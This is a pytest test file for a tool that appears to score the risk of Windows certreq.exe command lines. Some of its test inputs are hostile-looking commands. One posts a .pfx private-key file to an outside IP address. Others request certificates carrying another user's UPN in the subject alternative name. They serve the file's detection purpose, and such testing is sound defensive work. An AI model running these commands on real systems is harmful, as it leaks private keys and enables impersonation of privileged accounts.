"""certreq: requests are everyday, installing an answer is an import, and posting files is not ours."""

from __future__ import annotations

import pytest
from codesignrisk_core.cmdline import argv
from codesignrisk_core.model import Command, Report
from codesignrisk_core.tools import certreq


def judge(line: str) -> Report:
    return certreq.judge(Command("certreq.exe", argv.split(line), line))


@pytest.mark.parametrize(
    ("line", "action", "indicators"),
    [
        ("certreq -new web.inf web.req", "request_certificate", ["request_certificate"]),
        ('certreq -submit -config "ca01\\Fabrikam CA" web.req web.cer', "request_certificate", ["request_certificate"]),
        ("certreq web.req", "request_certificate", ["request_certificate"]),
        ("certreq -enroll -machine WebServer", "request_certificate", ["request_certificate"]),
        (
            'certreq -submit -attrib "CertificateTemplate:User\\nSAN:upn=boss@fabrikam.example" a.req a.cer',
            "request_certificate",
            ["request_certificate", "request_other_subject"],
        ),
        # the quote behind a backslash is part of the name, so all of this is one word
        (
            'certreq -submit -config ca01\\"Fabrikam CA" -attrib "SAN:upn=boss@fabrikam.example" a.req a.cer',
            "request_certificate",
            ["request_certificate", "request_other_subject"],
        ),
        (
            'certreq -submit -attrib "email:ann@fabrikam.example\\nSAN:dns=www.fabrikam.example" a.req',
            "request_certificate",
            ["request_certificate"],
        ),
        (
            'certreq -submit -attrib "CertificateTemplate:WebServer\\nSAN:dns=www.fabrikam.example" a.req',
            "request_certificate",
            ["request_certificate"],
        ),
        ("certreq -accept -machine C:\\pki\\web.cer", "accept_certificate", ["accept_certificate"]),
        ("certreq -retrieve 12 web.cer", "retrieve", []),
        ("certreq -post -config https://x.example/ C:\\a.txt", "post", []),
        ("certreq -Post -config https://x.example/ C:\\a.pfx", "upload_key", ["upload_key_file"]),
        (
            "certreq -Post -config https://203.0.113.5/ C:\\a.pfx",
            "upload_key",
            ["upload_key_file", "key_to_outside"],
        ),
        ("certreq", "", []),
    ],
)
def test_certreq(line: str, action: str, indicators: list[str]) -> None:
    report = judge(line)
    assert (report.action, [found.indicator for found in report.findings]) == (action, indicators)


def test_an_accepted_certificate_goes_to_the_personal_store() -> None:
    report = judge("certreq -machine -accept C:\\Users\\ann\\Downloads\\web.cer")
    assert report.store == "LocalMachine\\my"
    assert report.flags == {"CertImport"}
    assert [found.indicator for found in report.findings] == ["accept_certificate", "input_user_writable"]
